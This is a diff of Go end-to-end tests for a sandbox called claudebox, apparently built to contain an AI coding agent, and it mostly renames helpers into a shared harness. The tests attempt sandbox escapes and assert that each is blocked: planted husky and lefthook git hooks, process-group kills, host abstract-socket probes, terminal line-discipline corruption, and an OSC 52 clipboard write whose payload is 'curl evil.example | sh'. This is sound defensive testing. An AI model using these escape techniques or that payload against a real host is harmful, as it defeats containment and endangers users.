-		h.write(filepath.Join(husky, ".husky", "_", hook), "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n")
+		h.Write(filepath.Join(husky, ".husky", "_", hook), "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n")
 		os.Chmod(filepath.Join(husky, ".husky", "_", hook), 0o755)
 	}
-	h.write(filepath.Join(husky, ".husky", "pre-commit"), "true\n")
-	h.run(husky, nil, "git", "config", "core.hooksPath", ".husky/_")
+	h.Write(filepath.Join(husky, ".husky", "pre-commit"), "true\n")
+	h.Run(husky, nil, "git", "config", "core.hooksPath", ".husky/_")
 
-	lefthook := filepath.Join(h.home, "code", "lefthook")
-	h.gitRepo(lefthook)
-	h.write(filepath.Join(lefthook, "lefthook.yml"), "pre-commit:\n  commands:\n    lint:\n      run: true\n")
-	h.write(filepath.Join(lefthook, ".git", "hooks", "pre-commit"), "#!/bin/sh\nsed -n 's/^ *run: //p' lefthook.yml | sh\n")
+	lefthook := filepath.Join(h.Home, "code", "lefthook")
+	h.GitRepo(lefthook)
+	h.Write(filepath.Join(lefthook, "lefthook.yml"), "pre-commit:\n  commands:\n    lint:\n      run: true\n")
+	h.Write(filepath.Join(lefthook, ".git", "hooks", "pre-commit"), "#!/bin/sh\nsed -n 's/^ *run: //p' lefthook.yml | sh\n")
 	os.Chmod(filepath.Join(lefthook, ".git", "hooks", "pre-commit"), 0o755)
-	h.chown()
+	h.Chown()
 
 	attack := `
 		m=$1
@@ -641,11 +571,11 @@ func TestEscapeHookManagers(t *testing.T) {
 		echo attacked
 	` + "\n"
 	for _, dir := range []string{husky, lefthook} {
-		if out := h.run(dir, nil, "claudebox", "--shell", "-c", attack, "attack", marker); !strings.Contains(out, "attacked") {
+		if out := h.Run(dir, nil, "claudebox", "--shell", "-c", attack, "attack", marker); !strings.Contains(out, "attacked") {
 			t.Fatalf("the attack did not run in %s: %s", dir, out)
 		}
-		noPlaceholders(t, dir)
-		h.run(dir, nil, "git", "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "host")
+		harness.NoPlaceholders(t, dir)
+		h.Run(dir, nil, "git", "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "host")
 	}
 	if paths.Exists(marker) {
 		t.Fatal("the host's git commit ran what the sandbox wrote")
@@ -655,12 +585,12 @@ func TestEscapeHookManagers(t *testing.T) {
 // TestEscapeProcessGroup: kill(0, sig) inside signals the sandbox's own
 // process group, not the one claudebox was started in.
 func TestEscapeProcessGroup(t *testing.T) {
-	h := newE2EHost(t)
-	proj := filepath.Join(h.home, "code", "pgrp")
-	h.write(filepath.Join(proj, "README"), "p\n")
+	h := harness.NewHost(t)
+	proj := filepath.Join(h.Home, "code", "pgrp")
+	h.Write(filepath.Join(proj, "README"), "p\n")
 	// A process group of its own, holding a host process beside claudebox,
 	// as a pipeline or a script's background job would.
-	cmd := h.command(proj, nil, "sh", "-c", `
+	cmd := h.Command(proj, nil, "sh", "-c", `
 		sleep 300 & host=$!
 		claudebox --shell -c 'kill -TERM 0; kill -KILL 0'
 		kill -0 $host && echo HOST-ALIVE
@@ -677,8 +607,8 @@ func TestEscapeProcessGroup(t *testing.T) {
 // and reachable with --with-desktop-sockets; on the filtered network it
 // does not exist.
 func TestEscapeAbstractSocket(t *testing.T) {
-	h := newE2EHost(t)
-	requireTool(t, "perl", "apt-get install perl")
+	h := harness.NewHost(t)
+	harness.RequireTool(t, "perl", "apt-get install perl")
 	name := fmt.Sprintf("claudebox-e2e-x11-%d", os.Getpid())
 	l, err := net.Listen("unix", "@"+name)
 	if err != nil {
@@ -694,18 +624,18 @@ func TestEscapeAbstractSocket(t *testing.T) {
 			c.Close()
 		}
 	}()
-	proj := filepath.Join(h.home, "code", "x11")
-	h.write(filepath.Join(proj, "README"), "x\n")
+	proj := filepath.Join(h.Home, "code", "x11")
+	h.Write(filepath.Join(proj, "README"), "x\n")
 	probe := fmt.Sprintf(`perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die; print connect(S, pack_sockaddr_un("\0%s")) ? "CONNECTED\n" : "REFUSED $!\n"'`, name)
-	if out := strings.TrimSpace(h.run(proj, nil, "claudebox", "--network=host", "--shell", "-c", probe)); out != "REFUSED Operation not permitted" {
+	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--network=host", "--shell", "-c", probe)); out != "REFUSED Operation not permitted" {
 		t.Errorf("the host's abstract socket from inside: %s", out)
 	}
-	if out := strings.TrimSpace(h.run(proj, nil, "claudebox", "--network=host", "--with-desktop-sockets", "--shell", "-c", probe)); out != "CONNECTED" {
+	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--network=host", "--with-desktop-sockets", "--shell", "-c", probe)); out != "CONNECTED" {
 		t.Errorf("with --with-desktop-sockets: %s", out)
 	}
 	// The filtered network has a namespace of its own, where the host's
 	// abstract sockets do not exist, Landlock or not.
-	if out := strings.TrimSpace(h.run(proj, nil, "claudebox", "--with-desktop-sockets", "--shell", "-c", probe)); out != "REFUSED Connection refused" {
+	if out := strings.TrimSpace(h.Run(proj, nil, "claudebox", "--with-desktop-sockets", "--shell", "-c", probe)); out != "REFUSED Connection refused" {
 		t.Errorf("on the filtered network, with --with-desktop-sockets: %s", out)
 	}
 }
@@ -714,30 +644,30 @@ func TestEscapeAbstractSocket(t *testing.T) {
 // discipline N_NULL, O_NONBLOCK, mouse reporting and the alternate screen
 // left on) leaves the user's tmux pane alive and as it was after exit.
 func TestEscapeTerminalState(t *testing.T) {
-	h := newE2EHost(t)
-	requireTool(t, "perl", "apt-get install perl")
-	proj := filepath.Join(h.home, "code", "ldisc")
-	h.write(filepath.Join(proj, "README"), "l\n")
-	h.write(filepath.Join(proj, "attack"), `
+	h := harness.NewHost(t)
+	harness.RequireTool(t, "perl", "apt-get install perl")
+	proj := filepath.Join(h.Home, "code", "ldisc")
+	h.Write(filepath.Join(proj, "README"), "l\n")
+	h.Write(filepath.Join(proj, "attack"), `
 printf '\033[?1000h\033[?1006h\033[?2004h\033[?1049h'
 perl -MFcntl -e '
 	fcntl(STDIN, F_SETFL, O_NONBLOCK) or die "O_NONBLOCK: $!";
 	my $nnull = pack("i", 27);
 	ioctl(STDIN, 0x5423, $nnull) or die "TIOCSETD: $!"' || echo ATTACK-FAILED >&2
 `)
-	tmux := h.tmux(proj)
+	tmux := h.Tmux(proj)
 	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
 	flags := func() string {
 		return strings.TrimSpace(tmux("display-message", "-p", "#{mouse_any_flag} #{alternate_on} #{pane_dead}"))
 	}
 	before := flags()
 	tmux("send-keys", "claudebox --shell attack; echo EX''ITED", "Enter")
-	waitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "EXITED") }, "claudebox to exit")
+	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "EXITED") }, "claudebox to exit")
 	if s := tmux("capture-pane", "-p"); strings.Contains(s, "ATTACK-FAILED") {
 		t.Fatalf("the attack did not run:\n%s", s)
 	}
 	tmux("send-keys", "echo AL''IVE", "Enter")
-	waitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "ALIVE") }, "the shell after claudebox")
+	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "ALIVE") }, "the shell after claudebox")
 	if after := flags(); after != before {
 		t.Errorf("the pane's mouse, alternate screen, dead flags = %s, want %s as before", after, before)
 	}
@@ -747,18 +677,18 @@ perl -MFcntl -e '
 // not reach the user's terminal (tmux with set-clipboard on would make it
 // a paste buffer), unless --with-clipboard; a title passes as it is.
 func TestEscapeTerminalClipboard(t *testing.T) {
-	h := newE2EHost(t)
-	proj := filepath.Join(h.home, "code", "osc52")
-	h.write(filepath.Join(proj, "README"), "o\n")
+	h := harness.NewHost(t)
+	proj := filepath.Join(h.Home, "code", "osc52")
+	h.Write(filepath.Join(proj, "README"), "o\n")
 	payload := base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh"))
-	h.write(filepath.Join(proj, "write"), fmt.Sprintf(`printf '\033]52;c;%s\a\033]2;TITLE-FROM-INSIDE\a' > /dev/tty`+"\n", payload))
-	tmux := h.tmux(proj)
+	h.Write(filepath.Join(proj, "write"), fmt.Sprintf(`printf '\033]52;c;%s\a\033]2;TITLE-FROM-INSIDE\a' > /dev/tty`+"\n", payload))
+	tmux := h.Tmux(proj)
 	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
 	tmux("set-option", "-g", "set-clipboard", "on")
 	tmux("set-option", "-g", "allow-rename", "on")
 	run := func(flag string) (buffers, title string) {
 		tmux("send-keys", "claudebox "+flag+" --shell write; echo DO''NE"+flag, "Enter")
-		waitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE"+flag) }, "claudebox to exit")
+		harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE"+flag) }, "claudebox to exit")
 		time.Sleep(200 * time.Millisecond)
 		return tmux("list-buffers", "-F", "#{buffer_sample}"), strings.TrimSpace(tmux("display-message", "-p", "#{pane_title}"))
 	}
